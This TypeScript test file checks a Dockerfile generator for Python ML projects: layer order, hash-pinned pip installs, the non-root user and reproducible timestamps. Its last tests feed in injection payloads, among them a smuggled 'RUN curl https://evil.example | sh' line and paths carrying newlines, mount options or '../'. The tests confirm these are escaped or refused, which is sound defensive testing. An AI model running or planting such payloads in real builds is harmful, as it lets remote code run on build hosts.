import { describe, expect, it } from 'vitest';
import { heavyFilesList, renderDockerfile, STDLIB_COMPILE_EXCLUDE } from '../../../src/render/dockerfile.js';
import { renderDockerignore } from '../../../src/render/dockerignore.js';
import { BASE_DIGEST, irisLock, irisPlan } from '../helpers.js';

describe('renderDockerfile', () => {
  const dockerfile = renderDockerfile(irisPlan(), irisLock());
  const instructions = dockerfile.split('\n').filter((line) => /^[A-Z]+ /.test(line));

  it('gives the same bytes for the same plan and lock', () => {
    expect(renderDockerfile(irisPlan(), irisLock())).toBe(dockerfile);
  });

  it('orders stages base → dependencies → application, so a source change reuses the dependency layers', () => {
    expect(instructions.filter((line) => line.startsWith('FROM '))).toEqual([
      `FROM docker.io/library/python:3.11-slim-bookworm@${BASE_DIGEST} AS base`,
      'FROM base AS dependencies',
      'FROM dependencies AS application',
    ]);
    const install = dockerfile.indexOf('pip install');
    const copySource = dockerfile.indexOf('tar -C /tmp/ml-container-context');
    expect(install).toBeGreaterThan(0);
    expect(copySource).toBeGreaterThan(install);
  });

  it("compiles the base's standard library, hash-based, in a layer of the base stage (keyed by the base alone)", () => {
    // Docker's python images ship no .pyc: without this, every process in the image compiles what it imports.
    const step = [
      'RUN --mount=type=bind,from=generated,target=/tmp/ml-container-generated \\',
      '    started=$(date +%s) \\',
      `    && { SOURCE_DATE_EPOCH=0 python3 -m compileall -q -x '${STDLIB_COMPILE_EXCLUDE}' \\`,
      `        "$(python3 -c 'import sysconfig; print(sysconfig.get_paths()["stdlib"])')" \\`,
      "        || echo 'ml-container: some standard library files did not compile; they compile on import'; } \\",
      '    && python3 -I -S -B /tmp/ml-container-generated/clamp.py "$started" 0',
    ].join('\n');
    expect(dockerfile).toContain(step);
    expect(dockerfile.indexOf(step)).toBeGreaterThan(dockerfile.indexOf('AS base'));
    expect(dockerfile.indexOf(step)).toBeLessThan(dockerfile.indexOf('FROM base AS dependencies'));
    // Not the test suite, GUI tools or the base's own packages (the venv does not see them).
    for (const path of [
      '/usr/lib/python3.11/test/',
      '/usr/local/lib/python3.11/site-packages/pip/',
      '/usr/lib/python3.11/idlelib/',
    ]) {
      expect(new RegExp(STDLIB_COMPILE_EXCLUDE).test(path), path).toBe(true);
    }
    expect(new RegExp(STDLIB_COMPILE_EXCLUDE).test('/usr/lib/python3.11/json/decoder.py')).toBe(false);
  });

  it('installs only the hash-checked lock, with a BuildKit cache mount for pip, and keeps the lock in the image', () => {
    expect(dockerfile).toContain(
      [
        'RUN --mount=type=bind,from=generated,target=/tmp/ml-container-generated \\',
        '    --mount=type=cache,id=ml-container-pip-cpu-py3.11,target=/root/.cache/pip,sharing=locked \\',
        '    started=$(date +%s) \\',
        '    && rm -rf /root/.cache/pip/wheels \\',
        '    && SOURCE_DATE_EPOCH=0 python3 -m venv /opt/venv \\',
        '    && mkdir -p /opt/ml-container && cp /tmp/ml-container-generated/requirements.lock /opt/ml-container/requirements.lock \\',
        '    && SOURCE_DATE_EPOCH=0 /opt/venv/bin/pip install --require-hashes --no-deps \\',
        '    -r /opt/ml-container/requirements.lock \\',
        '    && python3 -I -S -B /tmp/ml-container-generated/clamp.py "$started" 0',
      ].join('\n'),
    );
  });

  it('writes every file with RUN, never COPY, and sets the times of what each step changed', () => {
    // COPY keeps the checkout's file times and stamps the folders it makes with the clock.
    expect(instructions.filter((line) => /^(COPY|ADD) /.test(line))).toEqual([]);
    const runs = dockerfile
      .split(/\n(?=[A-Z]+ |\n)/)
      .map((step) => step.trim())
      .filter((step) => step.startsWith('RUN '));
    expect(runs.length).toBeGreaterThan(0);
    for (const step of runs) {
      expect(step).toContain('--mount=type=bind,from=generated,target=/tmp/ml-container-generated');
      expect(step).toMatch(/started=\$\(date \+%s\)/);
      expect(step).toMatch(
        /python3 -I -S -B \/tmp\/ml-container-generated\/clamp\.py "\$started" (0|"\$\{SOURCE_DATE_EPOCH:-0\}")( \/app)?$/,
      );
      // Only a step that writes into the workdir alone walks it alone.
      if (step.endsWith(' /app'))
        expect(step).toMatch(/\| tar -C \/app --touch -xf -|cp --preserve=mode \S+ \/app\//);
    }
  });

  it('copies the source from a mount of the context with the commit time, declared only where it is used', () => {
    expect(dockerfile).toContain(
      [
        'ARG SOURCE_DATE_EPOCH',
        'RUN --mount=type=bind,target=/tmp/ml-container-context \\',
        '    --mount=type=bind,from=generated,target=/tmp/ml-container-generated \\',
        '    started=$(date +%s) \\',
        '    && tar -C /tmp/ml-container-context --numeric-owner --owner=0 --group=0 -cf - . \\',
        '    | tar -C /app --touch -xf - \\',
        `    && python3 -I -S -B /tmp/ml-container-generated/clamp.py "$started" "${'$'}{SOURCE_DATE_EPOCH:-0}" /app`,
      ].join('\n'),
    );
    // An earlier ARG would put the commit time in the cache key of the dependency layers.
    expect(dockerfile.indexOf('ARG SOURCE_DATE_EPOCH')).toBeGreaterThan(dockerfile.indexOf('pip install'));
  });

  it('gives each heavy file a layer of its own before the source, and leaves it out of the source by name', () => {
    const plan = irisPlan();
    plan.heavyFiles = [
      { path: 'data/train.csv', bytes: 20 << 20 },
      { path: 'model.joblib', bytes: 3 << 20 },
    ];
    const text = renderDockerfile(plan, irisLock());
    const heavy = text.indexOf('--mount=type=bind,source=data/train.csv,target=/tmp/ml-container-file');
    const model = text.indexOf('--mount=type=bind,source=model.joblib,target=/tmp/ml-container-file');
    const source = text.indexOf('tar -C /tmp/ml-container-context');
    expect(heavy).toBeGreaterThan(text.indexOf('useradd'));
    expect(model).toBeGreaterThan(heavy);
    expect(source).toBeGreaterThan(model);
    expect(text).toContain(
      '    && mkdir -p /app/data && cp --preserve=mode /tmp/ml-container-file /app/data/train.csv \\\n    && python3 -I -S -B /tmp/ml-container-generated/clamp.py "$started" 0',
    );
    expect(text).toContain(
      'tar -C /tmp/ml-container-context --no-wildcards --anchored --exclude-from=/tmp/ml-container-generated/heavy-files.txt',
    );
    expect(heavyFilesList(plan)).toBe('./data/train.csv\n./model.joblib\n');
  });

  it('passes a configured index to pip', () => {
    expect(renderDockerfile(irisPlan({ 'index-url': 'http://127.0.0.1:3141/simple' }), irisLock())).toContain(
      'pip install --require-hashes --no-deps --index-url http://127.0.0.1:3141/simple',
    );
  });

  it('runs as a non-root user with the documented environment, labels and command', () => {
    expect(instructions).toContain('USER 10001:10001');
    expect(dockerfile).toMatch(/ENV PYTHONDONTWRITEBYTECODE=1 \\\n {4}PYTHONUNBUFFERED=1/);
    expect(dockerfile).toContain(`org.opencontainers.image.base.digest="${BASE_DIGEST}"`);
    expect(dockerfile).toContain('io.github.ml-container.frameworks="scikit-learn==1.6.1"');
    expect(dockerfile).toContain(`io.github.ml-container.lock.sha256="${irisLock().sha256}"`);
    expect(instructions.at(-1)).toBe('CMD ["python","predict.py"]');
  });

  it('needs no frontend image: no syntax directive', () => {
    expect(dockerfile).not.toMatch(/^# *syntax=/m);
  });

  it('cites why each decision was made in its header', () => {
    expect(dockerfile).toContain('# python: 3.11 (.python-version:1)');
  });
});

describe('renderDockerignore', () => {
  it('keeps VCS folders, caches and virtualenvs out of the context', () => {
    const ignore = renderDockerignore().split('\n');
    expect(ignore).toEqual(
      expect.arrayContaining(['**/.git', '**/node_modules', '**/.venv', '**/__pycache__', '**/*.pyc']),
    );
  });
});

describe('decisions in the Dockerfile', () => {
  it('stay one comment line each, whatever text the repository gave them', () => {
    const plan = irisPlan();
    plan.decisions.push({
      topic: 'models',
      choice: 'x.safetensors)\nRUN curl https://evil.example | sh\r\n# (',
      why: 'a\u2028b',
    });
    const lines = renderDockerfile(plan, irisLock()).split('\n');
    expect(lines.filter((line) => line.startsWith('RUN curl'))).toEqual([]);
    expect(lines).toContain(
      '# models: x.safetensors)\\nRUN curl https://evil.example | sh\\r\\n# ( (a\\u2028b)',
    );
  });
});

describe('heavy files in the Dockerfile', () => {
  it('refuses, as an internal error, a heavy file path that reached the plan unchecked', () => {
    for (const path of ['a b.bin', 'x,target=/etc', 'x\nRUN id', '../outside.bin']) {
      const plan = irisPlan();
      plan.heavyFiles = [{ path, bytes: 2 << 20 }];
      expect(() => renderDockerfile(plan, irisLock()), path).toThrow(
        /the plan's heavy file .* cannot be written/,
      );
    }
  });
});
